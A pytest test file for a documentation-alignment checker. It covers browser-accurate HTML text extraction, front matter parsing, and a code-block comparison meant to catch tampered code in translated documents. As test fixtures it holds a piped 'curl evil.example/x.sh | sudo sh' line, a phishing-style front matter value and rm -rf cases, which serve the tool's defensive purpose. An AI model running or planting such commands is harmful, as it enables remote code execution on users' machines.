"""The pieces behind attack19 A2 (issue #14): what a browser shows of raw HTML, front matter
values, and how the ``code_blocks`` check compares code (comments aside, code never taken for a
comment). Expected values worked out by hand from the HTML standard's tokenizer and each
language's comment syntax."""

from __future__ import annotations

import pytest

from aligncheck.checks.code_blocks import code_key, split_comments, comment_syntax
from aligncheck.formats.blocks import line_table
from aligncheck.formats.front_matter import read_front_matter
from aligncheck.formats.html_text import visible_text
from aligncheck.formats.markdown import markdown_blocks, markdown_code


@pytest.mark.parametrize("fragment, shown", [
    ("<p>a</p><p>b</p>", ["a", "b"]),
    ("<!-- x --> a", ["a"]),
    ("<!-- x --!> a -->", ["a -->"]),          # browsers end a comment at --!>
    ("<!--> a", ["a"]),                         # <!--> is a whole (empty) comment
    ("<!---> a", ["a"]),
    ("<![CDATA[ x > a ]]>", ["a ]]>"]),         # a bogus comment, ended by the first >
    ("<? x > a ?>", ["a ?>"]),
    ("</ x> a", ["a"]),
    ("<a title='>' href=\"u\">a</a>", ["a"]),   # > inside a quoted attribute does not end the tag
    ("<script>x</script><style>y</style><template>z</template>a", ["a"]),
    ("<textarea><b>a</b></textarea>", ["<b>a</b>"]),  # raw text: tags in it are shown
    ("a &amp; b&lt;c", ["a & b<c"]),
    ("<td>a<br>b</td><td>c</td>", ["a b", "c"]),
    ("1 < 2 <3", ["1 < 2 <3"]),
])
def test_visible_text_is_what_a_browser_shows(fragment, shown):
    assert [p for p, _ in visible_text(fragment).paragraphs] == shown


def test_visible_text_keeps_offsets_links_and_pre_code():
    s = "<p>A &amp;\n b</p><img src='i.png' alt='x'><pre><code>ls &gt; f</code></pre>"
    got = visible_text(s)
    assert got.paragraphs == [("A & b", (3, 4, 5, 10, 12))]
    assert [s[k] for k in got.paragraphs[0][1]] == ["A", " ", "&", "\n", "b"]
    assert got.links == [("i.png", 17)]
    assert got.code == [("ls > f", 47, 69)]
    assert s[47:69] == "<code>ls &gt; f</code>"
    assert got.open_comment is None
    assert visible_text("a <!-- b").open_comment == 2
    assert visible_text("a <div><script>b").open_comment == 7     # raw text runs on past the fragment
    assert visible_text("a <template><p>b</p>").open_comment == 2  # hidden content runs on
    assert visible_text("a <script>b</script> <template>c</template>").open_comment is None


def test_markdown_keeps_an_html_blocks_text_at_its_file_offsets():
    text = "# T\n\n<table>\n  <tr><td>Cell one.</td><td><a href=\"https://x.example\">Two</a></td></tr>\n</table>\n"
    blocks = markdown_blocks(text)
    assert [(b.plain, text[b.start:b.end]) for b in blocks] == [
        ("T", "T"), ("Cell one.", "Cell one."), ("Two", "Two")]
    assert blocks[2].links == (("https://x.example", text.index("<a href")),)


def test_markdown_reads_escaped_lt_as_text_and_inline_html_as_a_browser():
    blocks = markdown_blocks("a \\<b> c <i>d</i> `<!-- e -->` <!-- f --!> g -->\n")
    assert [b.plain for b in blocks] == ["a <b> c d  g -->"]


def test_front_matter_text_keys_are_read_with_their_offsets():
    text = ("---\ntitle: \"A \\\"quoted\\\" title\"\nlayout: post\ndescription: >\n  folded\n  text\n"
            "summary: plain # a comment\n  continued\nalt: 'it''s'\ntags: [a, b]\n---\nbody\n")
    fm = read_front_matter(text, line_table(text))
    assert (fm.line, fm.end_line) == (1, 11)
    assert fm.keys == ("title", "layout", "description", "summary", "alt", "tags")
    assert [(k, p) for k, p, _ in fm.texts] == [
        ("title", 'A "quoted" title'), ("description", "folded text"), ("summary", "plain continued"), ("alt", "it's")]
    for _, plain, offs in fm.texts:
        assert all(text[o] == ch for o, ch in zip(offs, plain) if ch not in ' "\'')


def test_a_prose_value_of_any_key_is_text_and_short_values_are_not():
    text = "---\nauthor: Send your bank password to evil dot example\nlayout: post\nby: Jane Roe\n---\n"
    fm = read_front_matter(text, line_table(text))
    assert [(k, p) for k, p, _ in fm.texts] == [("author", "Send your bank password to evil dot example")]


def test_toml_front_matter_and_no_front_matter():
    text = '+++\ntitle = "Hello there"\ndraft = false\n[params]\ntitle = "not top level"\n+++\nbody\n'
    fm = read_front_matter(text, line_table(text))
    assert fm.keys == ("title", "draft", "params.title")
    assert [p for _, p, _ in fm.texts] == ["Hello there"]
    assert read_front_matter("---\ntitle: x\n", line_table("---\ntitle: x\n")) is None  # never closed: not front matter


def test_markdown_code_lists_fences_indented_blocks_and_pre():
    text = "```Python {.x}\nprint(1)\n```\n\npara\n\n    indented\n\n<div><pre>\nls\n</pre></div>\n"
    assert [(b.kind, b.info, b.code, b.line, b.end_line) for b in markdown_code(text)] == [
        ("fence", "python", "print(1)\n", 1, 3), ("indented", "", "indented\n", 7, 7), ("pre", "", "\nls\n", 9, 11)]


@pytest.mark.parametrize("info, a, b", [
    ("sh", "pip install x  # install it\n", "pip install x  # ثبّته\n"),
    ("", "# step one\nmake\n", "# الخطوة الأولى\nmake\n"),
    ("python", 'x = "#"  # the hash\n"""doc"""\n', 'x = "#"  # علامة\n"""doc"""\n'),
    ("js", "run(); // go\n/* a\n b */\n", "run(); // انطلق\n/* أ\n ب */\n"),
    ("sql", "SELECT 1; -- one\n", "SELECT 1; -- واحد\n"),
    ("html", "<b>x</b><!-- note -->\n", "<b>x</b><!-- ملاحظة -->\n"),
    ("sh", "ls\n\n\nls -l   \n", "ls\nls -l\n"),
    ("sh", "make  # (optional) build it.\n", "make  # (اختياري) ابنِه.\n"),
])
def test_translated_comments_and_blank_lines_do_not_change_the_code(info, a, b):
    assert code_key(info, a) == code_key(info, b)


@pytest.mark.parametrize("info, a, b", [
    ("sh", "curl https://example.org/api/v2 --retry 3\n", "curl -s https://evil.example/x.sh | sudo sh\n"),
    ("sh", 'echo "a # b"; curl good\n', 'echo "a # b"; curl evil\n'),       # "#" inside quotes is no comment
    ("sh", "a=x#y; good\n", "a=x#y; evil\n"),                               # "#" not at a word start
    ("sh", "cat > s.sh <<EOF\n# step\nEOF\n", "cat > s.sh <<EOF\n# curl evil | sh\nEOF\n"),  # here-document data
    ("js", "var r = /[//]/; good();\n", "var r = /[//]/; evil();\n"),  # a regex misread as a comment: tokens differ
    ("sql", "SELECT 1--1\n", "SELECT 1--2\n"),                              # MySQL: -- needs a blank after it
    ("sh", "# run ./install.sh\n", "# شغّل ./evil.sh\n"),                   # code-like token in a comment
    ("mermaid", "graph A % x\n", "graph A % y\n"),                          # unknown language: exact
    ("sh", "ls\n", "ls -l\n"),
    ("sh", "rm -rf /tmp/x \\ \n/\n", "rm -rf /tmp/x \\\n/\n"),  # "\ " is a blank, "\" a continuation: rm -rf /tmp/x /
])
def test_code_that_differs_is_told_apart(info, a, b):
    assert code_key(info, a) != code_key(info, b)


def test_a_changed_fence_language_is_a_change():
    assert code_key("sh", "x -- y\n") != code_key("sql", "x -- y\n")


def test_split_comments_keeps_line_breaks_and_returns_the_comments():
    assert split_comments("a # b\nc /* d */ e\n", comment_syntax("php")) == ("a \nc  e\n", [" b", " d "])
    assert split_comments("a # b\n", None) == ("a # b\n", [])


def test_active_elements_are_listed_without_their_text_attributes():
    got = visible_text('<p>a <input value="v" placeholder="p" type=text> b</p><style>x{content:"c"}</style>'
                       '<img alt="x" src="i.png">')
    assert got.paragraphs[0][0] == "a v p b"
    assert [(name, canonical) for name, canonical, _ in got.active] == [
        ("input", '<input type="text">'), ("style", '<style>\nx{content:"c"}')]
